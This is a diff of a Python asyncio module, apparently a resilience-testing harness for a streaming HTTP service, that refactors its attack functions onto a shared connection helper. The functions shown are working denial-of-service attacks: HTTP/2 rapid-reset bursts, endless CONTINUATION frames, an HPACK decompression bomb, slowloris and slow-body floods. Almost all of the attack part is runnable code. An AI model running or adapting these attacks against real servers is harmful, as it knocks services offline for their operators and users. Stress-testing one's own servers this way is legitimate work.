@@ -281,6 +281,26 @@ async def _drain_quietly(writer: asyncio.StreamWriter, timeout_s: float) -> bool
         return False
 
 
+Talk = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]
+
+
+async def _on_connections(target: Target, count: int, talk: Talk) -> None:
+    """``talk`` on each of ``count`` connections opened at once from the attacker's address;
+    a connection the server does not take is skipped, every opened one is closed after."""
+
+    async def one() -> None:
+        try:
+            reader, writer = await _open(target)
+        except (OSError, TimeoutError):
+            return
+        try:
+            await talk(reader, writer)
+        finally:
+            await _close(writer)
+
+    await asyncio.gather(*(one() for _ in range(count)))
+
+
 # -- the attacks --------------------------------------------------------------------------------
 
 
@@ -334,39 +354,32 @@ async def rapid_reset_spread(target: Target, scale: int, seconds: float) -> None
 async def _reset_burst(
     target: Target, connections: int, per_connection: int, seconds: float
 ) -> None:
-    async def one() -> None:
-        try:
-            reader, writer = await _open(target)
-        except (OSError, TimeoutError):
-            return
-        try:
-            client = _client()
-            writer.write(client.data_to_send())
-            path = f"/v1/streams/{target.stream}/records?seq_num=0&bytes=1048576"
-            for number in range(per_connection):
-                stream_id = 1 + 2 * number
-                if stream_id >= 2**31:
+    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        client = _client()
+        writer.write(client.data_to_send())
+        path = f"/v1/streams/{target.stream}/records?seq_num=0&bytes=1048576"
+        for number in range(per_connection):
+            stream_id = 1 + 2 * number
+            if stream_id >= 2**31:
+                break
+            try:
+                client.send_headers(
+                    stream_id, _request_headers(target, "GET", path), end_stream=True
+                )
+                client.reset_stream(stream_id)
+            except Exception:  # the server said GOAWAY: this connection is done
+                break
+            if number % 50 == 49:
+                writer.write(client.data_to_send())
+                if not await _drain_quietly(writer, 5):
                     break
-                try:
-                    client.send_headers(
-                        stream_id, _request_headers(target, "GET", path), end_stream=True
-                    )
-                    client.reset_stream(stream_id)
-                except Exception:  # the server said GOAWAY: this connection is done
-                    break
-                if number % 50 == 49:
-                    writer.write(client.data_to_send())
-                    if not await _drain_quietly(writer, 5):
-                        break
-            writer.write(client.data_to_send())
-            await _drain_quietly(writer, 5)
-            with contextlib.suppress(Exception):
-                await asyncio.wait_for(reader.read(1 << 20), min(seconds, 2))
-        finally:
-            await _close(writer)
+        writer.write(client.data_to_send())
+        await _drain_quietly(writer, 5)
+        with contextlib.suppress(Exception):
+            await asyncio.wait_for(reader.read(1 << 20), min(seconds, 2))
 
     deadline = time.monotonic() + max(seconds, 1)
-    await asyncio.gather(*(one() for _ in range(connections)))
+    await _on_connections(target, connections, talk)
     left = deadline - time.monotonic()
     if left > 0:
         await asyncio.sleep(left)
@@ -409,25 +422,18 @@ async def settings_flood(target: Target, scale: int, seconds: float) -> None:
 async def continuation_bomb(target: Target, scale: int, seconds: float) -> None:
     """On 16 connections: HEADERS without END_HEADERS, then CONTINUATION frames that never end."""
 
-    async def one() -> None:
-        try:
-            _reader, writer = await _open(target)
-        except (OSError, TimeoutError):
-            return
-        try:
-            client = _client()
-            writer.write(client.data_to_send())
-            writer.write(_frame(0x1, 0, 1, b"\x00" * 1024))
-            continuation = _frame(0x9, 0, 1, b"\x00" * 16384)
-            deadline = time.monotonic() + seconds
-            while time.monotonic() < deadline:
-                writer.write(continuation * 16)
-                if not await _drain_quietly(writer, max(0.1, deadline - time.monotonic())):
-                    break
-        finally:
-            await _close(writer)
+    async def talk(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        client = _client()
+        writer.write(client.data_to_send())
+        writer.write(_frame(0x1, 0, 1, b"\x00" * 1024))
+        continuation = _frame(0x9, 0, 1, b"\x00" * 16384)
+        deadline = time.monotonic() + seconds
+        while time.monotonic() < deadline:
+            writer.write(continuation * 16)
+            if not await _drain_quietly(writer, max(0.1, deadline - time.monotonic())):
+                break
 
-    await asyncio.gather(*(one() for _ in range(16 * scale)))
+    await _on_connections(target, 16 * scale, talk)
 
 
 def _hpack_bomb_blocks() -> tuple[bytes, bytes]:
@@ -472,28 +478,21 @@ async def hpack_bomb(target: Target, scale: int, seconds: float) -> None:
     one-byte references to it (each would decode to 64 MiB)."""
     first, second = _hpack_bomb_blocks()
 
-    async def one() -> None:
-        try:
-            _reader, writer = await _open(target)
-        except (OSError, TimeoutError):
-            return
-        try:
-            client = _client()
-            writer.write(client.data_to_send())
-            writer.write(_frame(0x1, 0x4 | 0x1, 1, first))  # END_HEADERS | END_STREAM
-            stream_id = 3
-            deadline = time.monotonic() + seconds
-            while time.monotonic() < deadline and stream_id < 2000:
-                writer.write(_frame(0x1, 0x4 | 0x1, stream_id, second))
-                stream_id += 2
-                if not await _drain_quietly(writer, max(0.1, deadline - time.monotonic())):
-                    break
-        finally:
-            await _close(writer)
+    async def talk(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        client = _client()
+        writer.write(client.data_to_send())
+        writer.write(_frame(0x1, 0x4 | 0x1, 1, first))  # END_HEADERS | END_STREAM
+        stream_id = 3
+        deadline = time.monotonic() + seconds
+        while time.monotonic() < deadline and stream_id < 2000:
+            writer.write(_frame(0x1, 0x4 | 0x1, stream_id, second))
+            stream_id += 2
+            if not await _drain_quietly(writer, max(0.1, deadline - time.monotonic())):
+                break
 
     deadline = time.monotonic() + seconds
     while time.monotonic() < deadline:  # each connection is refused at once: open new ones
-        await asyncio.gather(*(one() for _ in range(8 * scale)))
+        await _on_connections(target, 8 * scale, talk)
 
 
 async def idle_flood(target: Target, scale: int, seconds: float) -> None:
@@ -519,24 +518,17 @@ async def slowloris(target: Target, scale: int, seconds: float) -> None:
     """200 connections each sending a request head one byte every 0.5 s, never finishing."""
     head = b"GET /health HTTP/1.1\r\nHost: x\r\n" + b"X-Slow: " + b"a" * 1000
 
-    async def one() -> None:
-        try:
-            _, writer = await _open(target)
-        except (OSError, TimeoutError):
-            return
-        try:
-            deadline = time.monotonic() + seconds
-            for byte in head:
-                if time.monotonic() > deadline:
-                    break
-                writer.write(bytes((byte,)))
-                if not await _drain_quietly(writer, 2):
-                    break
-                await asyncio.sleep(0.5)
-        finally:
-            await _close(writer)
+    async def talk(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        deadline = time.monotonic() + seconds
+        for byte in head:
+            if time.monotonic() > deadline:
+                break
+            writer.write(bytes((byte,)))
+            if not await _drain_quietly(writer, 2):
+                break
+            await asyncio.sleep(0.5)
 
-    await asyncio.gather(*(one() for _ in range(200 * scale)))
+    await _on_connections(target, 200 * scale, talk)
 
 
 async def slow_body(target: Target, scale: int, seconds: float) -> None:
@@ -547,23 +539,16 @@ async def slow_body(target: Target, scale: int, seconds: float) -> None:
         "content-type: application/json\r\ncontent-length: 1048576\r\n\r\n"
     ).encode()
 
-    async def one() -> None:
-        try:
-            _, writer = await _open(target)
-        except (OSError, TimeoutError):
-            return
-        try:
-            writer.write(head)
-            deadline = time.monotonic() + seconds
-            while time.monotonic() < deadline:
-                writer.write(b"{")
-                if not await _drain_quietly(writer, 2):
-                    break
-                await asyncio.sleep(0.5)
-        finally:
-            await _close(writer)
+    async def talk(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        writer.write(head)
+        deadline = time.monotonic() + seconds
+        while time.monotonic() < deadline:
+            writer.write(b"{")
+            if not await _drain_quietly(writer, 2):
+                break
+            await asyncio.sleep(0.5)
 
-    await asyncio.gather(*(one() for _ in range(60 * scale)))
+    await _on_connections(target, 60 * scale, talk)
 
 
 #: Request shapes that desynchronise a front end and a back end that frame a body differently
